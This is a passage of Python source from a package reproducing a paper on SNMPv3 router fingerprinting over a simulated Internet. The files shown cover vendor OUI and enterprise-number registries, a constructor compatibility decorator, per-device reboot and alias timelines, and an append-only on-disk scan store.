    "Adtran": ("00a0c8", "00121e"),
    "OneAccess": ("0012ef", "70fc8c"),
    "MikroTik": ("000c42", "4c5e0c", "d4ca6d"),
    "ZTE": ("0019c6", "344b50"),
    "Arista": ("001c73",),
    "Nokia": ("00d0f6", "a4f4c2"),
    "Fortinet": ("00090f",),
    "Extreme": ("000130", "000496"),
    "TP-Link": ("14cc20", "50c7bf", "ec086b"),
    "D-Link": ("00055d", "000d88", "14d64d"),
    "Ubiquiti": ("00156d", "24a43c", "687251"),
    "Dell": ("001422", "f8b156"),
    "HP": ("000bcd", "3cd92b", "9457a5"),
    "Intel": ("0002b3", "001b21", "a0369f"),
    "Realtek": ("00e04c",),
    "Supermicro": ("002590", "0cc47a"),
    "VMware": ("005056",),
    "ZyXEL": ("001349", "5c6a80"),
    "Sagemcom": ("002569", "e8be81"),
    "AVM": ("00040e", "3810d5"),
    "Technicolor": ("00189b", "a02c2b"),
    "Calix": ("000631", "cc9efc"),
    "Eltex": ("a8f94b", "e0d9e3"),
    "Mellanox": ("0002c9", "b8599f"),
}


class OuiRegistry:
    """Maps MAC OUIs to vendor names and allocates vendor MAC blocks.

    >>> reg = default_registry()
    >>> reg.vendor_of(MacAddress("74:8e:f8:31:db:80"))
    'Brocade'
    >>> reg.vendor_of(MacAddress("ee:ee:ee:00:00:01")) is None
    True
    """

    def __init__(self, vendor_ouis: "dict[str, tuple[str, ...]] | None" = None) -> None:
        self._vendor_ouis = dict(vendor_ouis if vendor_ouis is not None else VENDOR_OUIS)
        self._by_oui: dict[bytes, str] = {}
        for vendor, prefixes in self._vendor_ouis.items():
            for prefix in prefixes:
                oui = bytes.fromhex(prefix)
                if len(oui) != 3:
                    raise ValueError(f"OUI must be 3 bytes: {prefix!r}")
                if oui in self._by_oui:
                    raise ValueError(f"duplicate OUI {prefix!r}")
                self._by_oui[oui] = vendor

    def vendor_of(self, mac: "MacAddress | bytes") -> "str | None":
        """Return the registered vendor for a MAC, or ``None`` if unregistered."""
        oui = mac.oui if isinstance(mac, MacAddress) else bytes(mac)[:3]
        return self._by_oui.get(oui)

    def is_registered(self, mac: "MacAddress | bytes") -> bool:
        """Return whether the MAC's OUI appears in the registry."""
        return self.vendor_of(mac) is not None

    def ouis_for(self, vendor: str) -> tuple[bytes, ...]:
        """Return the OUI blocks registered to ``vendor``."""
        prefixes = self._vendor_ouis.get(vendor)
        if prefixes is None:
            raise KeyError(f"unknown vendor: {vendor!r}")
        return tuple(bytes.fromhex(p) for p in prefixes)

    def vendors(self) -> tuple[str, ...]:
        """All vendor names in the registry."""
        return tuple(self._vendor_ouis)

    def make_mac(self, vendor: str, block_index: int, device_index: int) -> MacAddress:
        """Deterministically allocate a MAC in one of ``vendor``'s OUI blocks.

        ``device_index`` selects the NIC-specific low 24 bits; the topology
        generator uses sequential indices so interfaces of one router get
        consecutive MACs, as real line cards do.
        """
        ouis = self.ouis_for(vendor)
        oui = ouis[block_index % len(ouis)]
        if not 0 <= device_index < 1 << 24:
            raise ValueError(f"device index out of 24-bit range: {device_index}")
        return MacAddress(oui + device_index.to_bytes(3, "big"))

    def __len__(self) -> int:
        return len(self._by_oui)


_DEFAULT: "OuiRegistry | None" = None


def default_registry() -> OuiRegistry:
    """Return the process-wide default registry (built once, immutable)."""
    global _DEFAULT
    if _DEFAULT is None:
        _DEFAULT = OuiRegistry()
    return _DEFAULT
