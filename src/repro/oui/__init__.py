"""Vendor registries: IEEE OUIs and IANA Private Enterprise Numbers.

The paper infers vendors two ways (§3.1):

* from the **MAC OUI** when the engine ID embeds a MAC address — the upper
  three bytes identify the company that registered the block;
* from the **enterprise number** in the engine ID header, which RFC 3411
  mandates for conforming engine IDs.

Both registries here are embedded subsets covering the vendors the paper
names plus enough long-tail entries to exercise the "unregistered MAC" and
"unknown vendor" code paths.
"""

from repro.oui.enterprise import ENTERPRISE_NUMBERS, enterprise_name, enterprise_number
from repro.oui.registry import OuiRegistry, default_registry

__all__ = [
    "ENTERPRISE_NUMBERS",
    "OuiRegistry",
    "default_registry",
    "enterprise_name",
    "enterprise_number",
]
