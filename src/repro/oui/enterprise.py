"""IANA Private Enterprise Numbers (embedded subset).

RFC 3411-conforming engine IDs start with four bytes holding the device
manufacturer's IANA-assigned enterprise number (with the top bit set to
flag conformance).  The paper uses this "Engine Enterprise ID" both as a
fallback vendor signal and to detect *promiscuous* engine IDs (the same
engine ID value observed under multiple vendors' enterprise numbers).

The well-known assignments below are real IANA values (Cisco=9,
Huawei=2011, Juniper=2636, Net-SNMP=8072, ...); a few long-tail vendors
the paper aggregates under "Other" carry registry-consistent placeholder
numbers, documented here as part of the simulation substrate.
"""

from __future__ import annotations

#: enterprise number -> canonical vendor name
ENTERPRISE_NUMBERS: dict[int, str] = {
    2: "IBM",
    9: "Cisco",
    11: "HP",
    43: "3Com",
    171: "D-Link",
    343: "Intel",
    664: "Adtran",
    674: "Dell",
    1588: "Brocade",
    1916: "Extreme",
    1991: "Brocade",     # Foundry Networks, acquired by Brocade
    2011: "Huawei",
    2021: "Net-SNMP",    # legacy UC Davis branch of the same codebase
    2352: "Ericsson",    # RedBack
    2636: "Juniper",
    3902: "ZTE",
    4413: "Broadcom",
    4526: "Netgear",
    4881: "Ruijie",
    5567: "Ambit",
    6527: "Nokia",       # TiMetra / Alcatel-Lucent SR, now Nokia
    6876: "VMware",
    8072: "Net-SNMP",
    10002: "Thomson",
    12356: "Fortinet",
    13191: "OneAccess",
    14988: "MikroTik",
    16972: "TP-Link",
    17409: "Technicolor",
    25053: "Ruckus",
    25506: "H3C",
    30065: "Arista",
    35265: "Eltex",
    41112: "Ubiquiti",
}

_BY_NAME: dict[str, int] = {}
for _number, _name in sorted(ENTERPRISE_NUMBERS.items()):
    # First (lowest) number wins as the canonical allocation for a vendor.
    _BY_NAME.setdefault(_name, _number)


def enterprise_name(number: int) -> "str | None":
    """Return the vendor registered under an enterprise number, if known."""
    return ENTERPRISE_NUMBERS.get(number)


def enterprise_number(vendor: str) -> int:
    """Return the canonical enterprise number for a vendor name.

    Raises :class:`KeyError` for vendors without an embedded assignment.
    """
    return _BY_NAME[vendor]


def has_enterprise_number(vendor: str) -> bool:
    """Return whether the vendor has an embedded enterprise assignment."""
    return vendor in _BY_NAME
