"""Shared keyword-only constructor compatibility shim.

PR 1 migrated the public constructors to keyword-only signatures and kept
the historical positional forms working behind a ``DeprecationWarning``.
That shim was then copy-pasted into every migrated class — nine nearly
identical ``*args`` preambles with hand-maintained name tuples and
ambiguity checks.  :func:`keyword_only_compat` replaces all of them with
one class decorator.

This module is deliberately dependency-free and lives at the package
root so that core modules (``repro.snmp``, ``repro.scanner``, ...) can
use it without importing the :mod:`repro.devtools` package — IMP001
forbids that direction, and dragging the lint engine into every
fork-pool worker would be the exact cost the rule exists to prevent.
The blessed tooling-facing name is
:data:`repro.devtools.compat.keyword_only_compat`, a re-export of this
implementation.
"""

from __future__ import annotations

import warnings
from typing import Any, Callable, TypeVar

_ClassT = TypeVar("_ClassT", bound=type)


def keyword_only_compat(*names: str) -> Callable[[_ClassT], _ClassT]:
    """Class decorator: accept legacy positional constructor arguments.

    ``names`` is the historical positional parameter order.  The decorated
    class's ``__init__`` must be keyword-only; positional calls are mapped
    onto the named keywords and emit a :class:`DeprecationWarning`.  A
    parameter supplied both positionally and by keyword, or more
    positional arguments than ``names``, raises :class:`TypeError` (after
    the warning, so callers migrating under ``-W error`` see the
    deprecation first).
    """
    if not names:
        raise ValueError("keyword_only_compat needs at least one parameter name")
    preview = ", ".join(names[:3]) + (", ..." if len(names) > 3 else "")

    def decorate(cls: _ClassT) -> _ClassT:
        wrapped: Callable[..., None] = cls.__init__

        def __init__(self: Any, *args: Any, **kwargs: Any) -> None:
            if args:
                warnings.warn(
                    f"positional {cls.__name__}({preview}) is deprecated; "
                    "pass keyword arguments",
                    DeprecationWarning,
                    stacklevel=2,
                )
                if len(args) > len(names):
                    raise TypeError(
                        f"{cls.__name__} takes at most {len(names)} "
                        f"positional arguments, got {len(args)}"
                    )
                for name, value in zip(names, args):
                    if name in kwargs:
                        raise TypeError(
                            f"{cls.__name__}() got {name} both positionally "
                            "and by keyword"
                        )
                    kwargs[name] = value
            wrapped(self, **kwargs)

        __init__.__doc__ = wrapped.__doc__
        __init__.__qualname__ = wrapped.__qualname__
        __init__.__module__ = wrapped.__module__
        __init__.__wrapped__ = wrapped  # type: ignore[attr-defined]
        cls.__init__ = __init__
        return cls

    return decorate


__all__ = ["keyword_only_compat"]
