"""repro — reproduction of "Third Time's Not a Charm: Exploiting SNMPv3
for Router Fingerprinting" (Albakour, Gasser, Beverly, Smaragdakis;
ACM IMC 2021).

The package implements the paper's full measurement system on top of a
deterministic simulated Internet:

* a from-scratch SNMP protocol stack (BER codec, v1/v2c/v3 messages, the
  RFC 3414 User-based Security Model, engine-ID formats per RFC 3411);
* a ZMap-style scanner issuing unauthenticated SNMPv3 synchronization
  probes and capturing engine ID / boots / time;
* the §4.4 ten-step filtering pipeline;
* SNMPv3 alias resolution with dual-stack joining, plus the comparator
  techniques (MIDAR, Speedtrap, Router Names, Nmap, iTTL);
* vendor fingerprinting via MAC OUIs and IANA enterprise numbers;
* per-AS/per-region deployment analyses and a reproduction of every
  table and figure in the paper's evaluation.

Quickstart — the :mod:`repro.api` facade is the supported surface::

    from repro import Session
    session = Session(scale=300, seed=7)
    for vendor, count in session.scan().filter().aliases().vendor_census():
        print(f"{vendor:12s} {count}")

See ``examples/`` for complete scenarios and ``DESIGN.md`` for the
system inventory.
"""

from repro.api import ExecutionOptions, Session, Store, StoreQuery, TopologyOptions
from repro.alias import (
    AliasSets,
    IcmpRateLimitOracle,
    MatchVariant,
    MidarResolver,
    PathLengthPruner,
    RateLimitResolver,
    RouterNamesResolver,
    SiblingDetector,
    Snmpv3AliasResolver,
    SpeedtrapResolver,
    compare_alias_sets,
    evaluate_against_truth,
    resolve_aliases,
    resolve_dual_stack,
)
from repro.alias.mac_correlation import MacCorrelator
from repro.experiments import ExperimentContext
from repro.fingerprint import infer_vendor, vendor_of_alias_set
from repro.pipeline import (
    FilterPipeline,
    FilterStats,
    MergedObservation,
    PipelineResult,
    ValidRecord,
)
from repro.scanner import (
    CampaignResult,
    ExecutorConfig,
    ExecutorMetrics,
    ScanCampaign,
    ScanObservation,
    ScanResult,
    ScanStream,
    ShardedScanExecutor,
    ZmapScanner,
)
from repro.snmp import EngineId, EngineIdFormat, SnmpAgent, SnmpClient, build_discovery_probe
from repro.topology import (
    LazyTopology,
    Topology,
    TopologyConfig,
    TopologyGenerator,
    build_topology,
    load_topology_file,
)

__version__ = "1.0.0"

__all__ = [
    "AliasSets",
    "CampaignResult",
    "EngineId",
    "ExecutionOptions",
    "ExecutorConfig",
    "ExecutorMetrics",
    "FilterStats",
    "MergedObservation",
    "PipelineResult",
    "ScanObservation",
    "ScanResult",
    "ScanStream",
    "Session",
    "ShardedScanExecutor",
    "Store",
    "StoreQuery",
    "ValidRecord",
    "IcmpRateLimitOracle",
    "MacCorrelator",
    "PathLengthPruner",
    "RateLimitResolver",
    "SiblingDetector",
    "EngineIdFormat",
    "ExperimentContext",
    "FilterPipeline",
    "MatchVariant",
    "MidarResolver",
    "RouterNamesResolver",
    "ScanCampaign",
    "SnmpAgent",
    "SnmpClient",
    "Snmpv3AliasResolver",
    "SpeedtrapResolver",
    "LazyTopology",
    "Topology",
    "TopologyConfig",
    "TopologyGenerator",
    "TopologyOptions",
    "ZmapScanner",
    "build_discovery_probe",
    "build_topology",
    "load_topology_file",
    "compare_alias_sets",
    "evaluate_against_truth",
    "infer_vendor",
    "resolve_aliases",
    "resolve_dual_stack",
    "vendor_of_alias_set",
    "__version__",
]
