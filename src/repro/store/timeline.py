"""Incremental longitudinal layer: fold scan rounds into device timelines.

The paper's §7 statistics (uptime ECDFs, reboot counts) and the §5
cross-scan alias work are all *longitudinal*: they correlate engine ID /
boots / engine time for one device across repeated observations.  The
:class:`TimelineAccumulator` consumes one ingested round at a time —
never re-reading older rounds — and maintains, per engine ID:

* every **sighting** (round, scan, address, receive time, boots, time);
* **reboot events** between consecutive scans: a forward jump of the
  derived last-reboot time (``recv_time - engine_time``) beyond the
  consistency threshold, classified as ``boots-increment`` when the
  boots counter advanced and ``engine-time-regression`` when a device
  rebooted without incrementing boots (the paper's non-conforming
  population);
* **uptime samples** (the engine-time values feeding the §7 ECDF);
* per-round **alias membership** (the addresses answering with that
  engine ID), with consecutive-round **diffs**: addresses *born* (new
  in the later round), *died* (gone), and *moved* (answering with a
  different engine ID than before — renumbering / DHCP churn).

Detection is order-insensitive within a scan: each (engine, scan) pair
is represented by its lowest-address sighting, so the same rounds give
the same events no matter how the ingest happened to interleave rows.
Folding rounds one at a time is provably equivalent to recomputing from
all raw rounds (property-tested against a brute-force reference in
``tests/store/test_timeline.py``).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterable, Mapping, Sequence

from repro.net.addresses import IPAddress
from repro.scanner.records import ScanObservation

#: Forward jump of the derived last-reboot time that counts as a reboot;
#: mirrors the filtering pipeline's 10-second consistency threshold.
DEFAULT_REBOOT_THRESHOLD = 10.0

KIND_BOOTS_INCREMENT = "boots-increment"
KIND_TIME_REGRESSION = "engine-time-regression"


@dataclass(frozen=True)
class Sighting:
    """One engine observed once, in one scan of one round."""

    round_id: int
    label: str
    address: IPAddress
    recv_time: float
    engine_boots: int
    engine_time: int

    @property
    def last_reboot(self) -> float:
        return self.recv_time - float(self.engine_time)


@dataclass(frozen=True)
class RebootEvent:
    """A detected restart between two consecutive sightings of an engine."""

    engine_id: bytes
    round_id: int
    label: str
    kind: str
    boots_before: int
    boots_after: int
    reboot_time: float
    previous_reboot_time: float


@dataclass(frozen=True)
class AliasDiff:
    """Membership change of the responsive population between two rounds."""

    prev_round: int
    next_round: int
    #: Addresses responsive in the later round but not the earlier one.
    born: frozenset[IPAddress]
    #: Addresses responsive in the earlier round but not the later one.
    died: frozenset[IPAddress]
    #: Addresses responsive in both, answering with a different engine ID.
    moved: frozenset[IPAddress]

    @property
    def churned(self) -> int:
        """Engine-ID churn: how many stable addresses changed identity."""
        return len(self.moved)


@dataclass
class DeviceTimeline:
    """Everything the store knows about one engine ID over time."""

    engine_id: bytes
    sightings: list[Sighting] = field(default_factory=list)
    reboot_events: list[RebootEvent] = field(default_factory=list)
    #: round -> the addresses that answered with this engine ID.
    members: dict[int, frozenset[IPAddress]] = field(default_factory=dict)

    @property
    def first_round(self) -> int:
        return min(self.members)

    @property
    def last_round(self) -> int:
        return max(self.members)

    @property
    def rounds_seen(self) -> int:
        return len(self.members)

    def uptime_samples(self) -> "list[tuple[int, str, int]]":
        """(round, label, engine_time) triples — the §7 ECDF inputs."""
        return [
            (s.round_id, s.label, s.engine_time) for s in self.sightings
        ]

    def member_history(self) -> "list[tuple[int, frozenset[IPAddress]]]":
        return sorted(self.members.items())


class TimelineError(ValueError):
    """Raised on out-of-order or duplicate round folds."""


class TimelineAccumulator:
    """Folds rounds into per-device timelines, strictly forward in time.

    ``fold_round`` must be called with strictly increasing round IDs;
    the accumulator never looks back at raw data from earlier rounds,
    which is what makes the store's timeline maintenance incremental —
    each ingest folds only the new round.
    """

    def __init__(self, *, reboot_threshold: float = DEFAULT_REBOOT_THRESHOLD) -> None:
        self.reboot_threshold = reboot_threshold
        self.timelines: dict[bytes, DeviceTimeline] = {}
        self.diffs: list[AliasDiff] = []
        self.folded_rounds: list[int] = []
        #: engine -> representative sighting of its most recent scan.
        self._last_sighting: dict[bytes, Sighting] = {}
        #: address -> engine it answered with, in the last folded round.
        self._prev_membership: dict[IPAddress, bytes] = {}

    # -- folding -----------------------------------------------------------

    def fold_round(
        self,
        round_id: int,
        scans: "Sequence[tuple[str, float, Iterable[ScanObservation]]]",
    ) -> None:
        """Fold one round: ``scans`` is (label, started_at, observations).

        Scans are processed in virtual-schedule order (``started_at``,
        then label), matching the order the campaign ran them.
        """
        if self.folded_rounds and round_id <= self.folded_rounds[-1]:
            raise TimelineError(
                f"round {round_id} folded out of order "
                f"(last was {self.folded_rounds[-1]})"
            )
        membership: dict[IPAddress, bytes] = {}
        members: dict[bytes, set[IPAddress]] = {}
        for label, started_at, observations in sorted(
            scans, key=lambda scan: (scan[1], scan[0])
        ):
            # Lowest-address representative per engine: within-scan row
            # order must not influence event detection.
            representatives: dict[bytes, Sighting] = {}
            for obs in observations:
                if obs.engine_id is None:
                    continue
                raw = obs.engine_id.raw
                sighting = Sighting(
                    round_id=round_id,
                    label=label,
                    address=obs.address,
                    recv_time=obs.recv_time,
                    engine_boots=obs.engine_boots,
                    engine_time=obs.engine_time,
                )
                timeline = self.timelines.get(raw)
                if timeline is None:
                    timeline = self.timelines[raw] = DeviceTimeline(engine_id=raw)
                timeline.sightings.append(sighting)
                members.setdefault(raw, set()).add(obs.address)
                # The latest scan's identity wins for churn accounting.
                membership[obs.address] = raw
                best = representatives.get(raw)
                if best is None or int(sighting.address) < int(best.address):
                    representatives[raw] = sighting
            for raw, sighting in sorted(representatives.items()):
                self._detect_reboot(raw, sighting)
                self._last_sighting[raw] = sighting
        for raw, addresses in members.items():
            self.timelines[raw].members[round_id] = frozenset(addresses)
        if self.folded_rounds:
            self.diffs.append(
                self._diff(self.folded_rounds[-1], round_id, membership)
            )
        self._prev_membership = membership
        self.folded_rounds.append(round_id)

    def _detect_reboot(self, raw: bytes, sighting: Sighting) -> None:
        previous = self._last_sighting.get(raw)
        if previous is None:
            return
        jump = sighting.last_reboot - previous.last_reboot
        if jump <= self.reboot_threshold:
            return
        kind = (
            KIND_BOOTS_INCREMENT
            if sighting.engine_boots > previous.engine_boots
            else KIND_TIME_REGRESSION
        )
        self.timelines[raw].reboot_events.append(
            RebootEvent(
                engine_id=raw,
                round_id=sighting.round_id,
                label=sighting.label,
                kind=kind,
                boots_before=previous.engine_boots,
                boots_after=sighting.engine_boots,
                reboot_time=sighting.last_reboot,
                previous_reboot_time=previous.last_reboot,
            )
        )

    def _diff(
        self,
        prev_round: int,
        next_round: int,
        membership: Mapping[IPAddress, bytes],
    ) -> AliasDiff:
        prev = self._prev_membership
        born = frozenset(a for a in membership if a not in prev)
        died = frozenset(a for a in prev if a not in membership)
        moved = frozenset(
            a for a, raw in membership.items() if a in prev and prev[a] != raw
        )
        return AliasDiff(
            prev_round=prev_round,
            next_round=next_round,
            born=born,
            died=died,
            moved=moved,
        )

    # -- aggregate views ---------------------------------------------------

    def reboot_events(self) -> "list[RebootEvent]":
        """Every detected reboot, in (round, label, engine) order."""
        events = [
            event
            for timeline in self.timelines.values()
            for event in timeline.reboot_events
        ]
        events.sort(key=lambda e: (e.round_id, e.label, e.engine_id))
        return events

    def uptime_ecdf_inputs(self) -> "list[int]":
        """All engine-time samples, sorted — feed to the §7 uptime ECDF."""
        return sorted(
            sighting.engine_time
            for timeline in self.timelines.values()
            for sighting in timeline.sightings
        )

    def summary(self) -> "dict[str, object]":
        """Compact roll-up used by ``store timeline`` and the CI artifact."""
        return {
            "rounds": list(self.folded_rounds),
            "devices": len(self.timelines),
            "sightings": sum(
                len(t.sightings) for t in self.timelines.values()
            ),
            "reboot_events": len(self.reboot_events()),
            "boots_increment_events": sum(
                1
                for e in self.reboot_events()
                if e.kind == KIND_BOOTS_INCREMENT
            ),
            "time_regression_events": sum(
                1
                for e in self.reboot_events()
                if e.kind == KIND_TIME_REGRESSION
            ),
            "diffs": [
                {
                    "prev_round": d.prev_round,
                    "next_round": d.next_round,
                    "born": len(d.born),
                    "died": len(d.died),
                    "moved": len(d.moved),
                }
                for d in self.diffs
            ],
        }


__all__ = [
    "DEFAULT_REBOOT_THRESHOLD",
    "KIND_BOOTS_INCREMENT",
    "KIND_TIME_REGRESSION",
    "AliasDiff",
    "DeviceTimeline",
    "RebootEvent",
    "Sighting",
    "TimelineAccumulator",
    "TimelineError",
]
