"""The persistent scan observatory: rounds of scans on disk, queryable.

A :class:`Store` is a directory::

    store/
      MANIFEST.json          # format header + round/scan catalogue
      segments/
        r000001-v4-1-g000001-p0000.seg
        ...

Every scan of every ingested round lives in one or more immutable
:mod:`~repro.store.segment` files; ``MANIFEST.json`` (canonical JSON,
atomically replaced) names which segments currently back each scan and
carries the scan-level totals.  The design contract, enforced by the
tests in ``tests/store/``:

* **Append-only** — segment files are never modified after being
  written; ingest adds files, compaction swaps in merged replacements
  and only then drops the obsolete parts.
* **Deterministic** — one campaign config + seed yields byte-identical
  segments at any worker count and through either ingest path
  (materialized result or streamed batches); no wall-clock anywhere.
* **Compaction-invariant** — ``compact()`` merges the parts of each
  scan into one segment; bytes on disk change, no query or timeline
  answer does.

Longitudinal state (the :class:`~repro.store.timeline.TimelineAccumulator`)
is maintained *incrementally*: each new round is folded once, at the
first ``timelines()`` call after its ingest, without re-reading older
rounds.
"""

from __future__ import annotations

import json
import os
import time
from dataclasses import dataclass
from itertools import islice
from pathlib import Path
from typing import TYPE_CHECKING, Iterable, Iterator

from repro.net.addresses import IPAddress
from repro.scanner.records import ScanObservation, ScanResult
from repro.store.index import StoreIndex
from repro.store.segment import (
    DEFAULT_BLOCK_ROWS,
    SegmentMeta,
    SegmentReader,
    write_segment,
)
from repro.store.timeline import (
    DEFAULT_REBOOT_THRESHOLD,
    TimelineAccumulator,
)

if TYPE_CHECKING:  # pragma: no cover - import cycle guard, types only
    from repro.scanner.campaign import CampaignResult, ScanStream
    from repro.store.query import StoreQuery

#: Store format version, stamped into the manifest.
STORE_VERSION = 1
STORE_FORMAT = "repro-store"

MANIFEST_NAME = "MANIFEST.json"
SEGMENT_DIR = "segments"

#: Rows per segment part during ingest; scans larger than this split
#: into multiple parts (which ``compact()`` later merges).
DEFAULT_SEGMENT_ROWS = 65536

#: Bounded re-reads of ``MANIFEST.json`` when a concurrent atomic swap
#: briefly hides or truncates it (filesystems without atomic rename).
MANIFEST_READ_ATTEMPTS = 8


class StoreError(ValueError):
    """Raised on invalid store state or misuse of the ingest contract."""


def _iter_chunks(
    observations: Iterable[ScanObservation], size: int
) -> "Iterator[list[ScanObservation]]":
    """Cut a flat observation iterable into lists of at most ``size``."""
    iterator = iter(observations)
    while True:
        chunk = list(islice(iterator, size))
        if not chunk:
            return
        yield chunk


@dataclass(frozen=True)
class StoredObservation:
    """An observation plus the round/scan coordinates it was stored under."""

    round_id: int
    label: str
    observation: ScanObservation


@dataclass(frozen=True)
class IngestStats:
    """What one scan ingest wrote."""

    round_id: int
    label: str
    rows: int
    segments: int
    bytes_written: int


@dataclass(frozen=True)
class CompactStats:
    """What one compaction pass did."""

    scans_compacted: int
    segments_before: int
    segments_after: int
    bytes_before: int
    bytes_after: int


class Store:
    """A persistent, append-only observatory of scan rounds.

    All constructor arguments are keyword-only (facade convention).
    ``root`` is created on first use; opening an existing directory
    validates its manifest.
    """

    def __init__(
        self,
        *,
        root: "str | Path",
        segment_rows: int = DEFAULT_SEGMENT_ROWS,
        block_rows: int = DEFAULT_BLOCK_ROWS,
        reboot_threshold: float = DEFAULT_REBOOT_THRESHOLD,
    ) -> None:
        if segment_rows < 1:
            raise StoreError(f"segment_rows must be positive, got {segment_rows}")
        self.root = Path(root)
        self.segment_rows = segment_rows
        self.block_rows = block_rows
        self.reboot_threshold = reboot_threshold
        self._segment_dir = self.root / SEGMENT_DIR
        self._segment_dir.mkdir(parents=True, exist_ok=True)
        self._manifest_path = self.root / MANIFEST_NAME
        if self._manifest_path.exists():
            self._manifest = self._load_manifest()
        else:
            fresh = {
                "format": STORE_FORMAT,
                "version": STORE_VERSION,
                "generation": 0,
                "rounds": {},
            }
            try:
                # Exclusive create: if another opener (or a swap window on
                # a filesystem without atomic rename) beat us to it, adopt
                # the existing manifest instead of clobbering it.
                with open(self._manifest_path, "x", encoding="utf-8") as f:
                    f.write(json.dumps(fresh, sort_keys=True, indent=2) + "\n")
                self._manifest = fresh
            except FileExistsError:
                self._manifest = self._load_manifest()
        self._readers: dict[str, SegmentReader] = {}
        self._timeline_acc: "TimelineAccumulator | None" = None
        self._index: "StoreIndex | None" = None

    @classmethod
    def open(cls, root: "str | Path") -> "Store":
        """Open an existing store (or create an empty one at ``root``)."""
        return cls(root=root)

    # -- manifest ----------------------------------------------------------

    def _load_manifest(self) -> dict:
        """Read and validate ``MANIFEST.json``, riding out swap windows.

        The manifest is replaced atomically (``os.replace``), so on POSIX
        a reader always sees a complete old or new file.  Filesystems
        without atomic rename can expose a brief ENOENT (or partial-read)
        window during the swap; a bounded retry absorbs it instead of
        failing a concurrent open/refresh.
        """
        last_error: "Exception | None" = None
        for attempt in range(MANIFEST_READ_ATTEMPTS):
            if attempt:
                time.sleep(0.001 * attempt)
            try:
                text = self._manifest_path.read_text(encoding="utf-8")
                manifest = json.loads(text)
            except (FileNotFoundError, json.JSONDecodeError) as error:
                last_error = error
                continue
            if manifest.get("format") != STORE_FORMAT:
                raise StoreError(f"{self.root} is not a repro store")
            if manifest.get("version") != STORE_VERSION:
                raise StoreError(
                    f"unsupported store version {manifest.get('version')}"
                )
            return manifest
        raise StoreError(
            f"manifest at {self._manifest_path} unreadable after "
            f"{MANIFEST_READ_ATTEMPTS} attempts"
        ) from last_error

    def _write_manifest(self) -> None:
        text = json.dumps(self._manifest, sort_keys=True, indent=2) + "\n"
        tmp = self._manifest_path.with_suffix(".json.tmp")
        tmp.write_text(text, encoding="utf-8")
        os.replace(tmp, self._manifest_path)

    def _next_generation(self) -> int:
        self._manifest["generation"] += 1
        return self._manifest["generation"]

    @property
    def generation(self) -> int:
        """Monotonic manifest generation; bumps on every ingest/compaction."""
        return int(self._manifest["generation"])

    def refresh(self) -> bool:
        """Re-read the manifest from disk, adopting concurrent writers.

        Returns ``True`` when the on-disk generation differs from the
        cached one.  On change, readers of segments no longer in the
        catalogue are dropped and the index cache is discarded; the
        timeline accumulator survives as long as every already-folded
        round's scan set is unchanged (append-only stores only ever add
        rounds/labels, so recurring refreshes stay incremental).
        """
        manifest = self._load_manifest()
        if manifest["generation"] == self._manifest["generation"]:
            return False
        old_rounds = self._manifest["rounds"]
        self._manifest = manifest
        current = {
            name
            for rid in self.rounds()
            for label in self.labels(rid)
            for name in self._scan_entry(rid, label)["segments"]
        }
        for name in list(self._readers):
            if name not in current:
                del self._readers[name]
        self._index = None
        acc = self._timeline_acc
        if acc is not None:
            for rid in acc.folded_rounds:
                entry = manifest["rounds"].get(str(rid))
                if entry is None or set(entry) != set(
                    old_rounds.get(str(rid), {})
                ):
                    self._timeline_acc = None
                    break
        return True

    def _scan_entry(self, round_id: int, label: str) -> dict:
        rounds = self._manifest["rounds"]
        entry = rounds.get(str(round_id), {}).get(label)
        if entry is None:
            raise StoreError(f"round {round_id} has no scan {label!r}")
        return entry

    # -- ingest ------------------------------------------------------------

    def ingest_scan(
        self,
        observations: Iterable[ScanObservation],
        *,
        round_id: int,
        label: str,
        ip_version: int,
        started_at: float,
        finished_at: float = 0.0,
        targets_probed: int = 0,
    ) -> IngestStats:
        """Ingest one scan's observation stream as a new ``(round, label)``.

        Rows are deduplicated per address (first observation wins, the
        :meth:`~repro.scanner.records.ScanResult.add` rule) and cut into
        parts of ``segment_rows``.  Re-ingesting an existing scan is an
        error: the store is append-only and a scan is a fact, not a
        mutable table.
        """
        return self.ingest_scan_batches(
            _iter_chunks(observations, self.segment_rows),
            round_id=round_id,
            label=label,
            ip_version=ip_version,
            started_at=started_at,
            finished_at=finished_at,
            targets_probed=targets_probed,
        )

    def ingest_scan_batches(
        self,
        batches: "Iterable[list[ScanObservation]]",
        *,
        round_id: int,
        label: str,
        ip_version: int,
        started_at: float,
        finished_at: float = 0.0,
        targets_probed: int = 0,
    ) -> IngestStats:
        """Batch-granular ingest core (:meth:`ingest_scan` wraps this).

        Consumes whole observation batches — the executor's native unit —
        so a streamed campaign never pays a per-observation generator
        round-trip between decode and segment write.  Dedup order,
        segment boundaries and bytes on disk are identical to feeding the
        flattened stream through :meth:`ingest_scan`.
        """
        if round_id < 0:
            raise StoreError(f"round ids are non-negative, got {round_id}")
        rounds = self._manifest["rounds"]
        round_entry = rounds.setdefault(str(round_id), {})
        if label in round_entry:
            raise StoreError(
                f"round {round_id} scan {label!r} is already ingested"
            )
        seen: set[IPAddress] = set()
        seen_add = seen.add
        generation = self._next_generation()
        segment_rows = self.segment_rows
        part = 0
        rows_total = 0
        bytes_total = 0
        names: list[str] = []
        buffer: list[ScanObservation] = []
        append = buffer.append

        def flush(rows_out: "list[ScanObservation]") -> None:
            nonlocal part, rows_total, bytes_total
            name = (
                f"r{round_id:06d}-{label}-g{generation:06d}-p{part:04d}.seg"
            )
            path = self._segment_dir / name
            meta = SegmentMeta(
                round_id=round_id,
                label=label,
                ip_version=ip_version,
                started_at=started_at,
                part=part,
            )
            rows = write_segment(
                path, meta, rows_out, block_rows=self.block_rows
            )
            names.append(name)
            rows_total += rows
            bytes_total += path.stat().st_size
            part += 1

        for batch in batches:
            for observation in batch:
                address = observation.address
                if address in seen:
                    continue
                seen_add(address)
                append(observation)
            # Cut exactly at segment_rows so parts match the legacy
            # per-observation path byte for byte.
            while len(buffer) >= segment_rows:
                flush(buffer[:segment_rows])
                del buffer[:segment_rows]
        if buffer or not names:
            flush(buffer)  # a responder-less scan still gets one (empty) segment
            buffer.clear()
        round_entry[label] = {
            "segments": names,
            "rows": rows_total,
            "ip_version": ip_version,
            "started_at": started_at,
            "finished_at": finished_at,
            "targets_probed": targets_probed,
        }
        self._write_manifest()
        self._invalidate_round(round_id)
        return IngestStats(
            round_id=round_id,
            label=label,
            rows=rows_total,
            segments=len(names),
            bytes_written=bytes_total,
        )

    def ingest_result(self, scan: ScanResult, *, round_id: int) -> IngestStats:
        """Ingest one materialized :class:`ScanResult`."""
        return self.ingest_scan(
            scan.observations.values(),
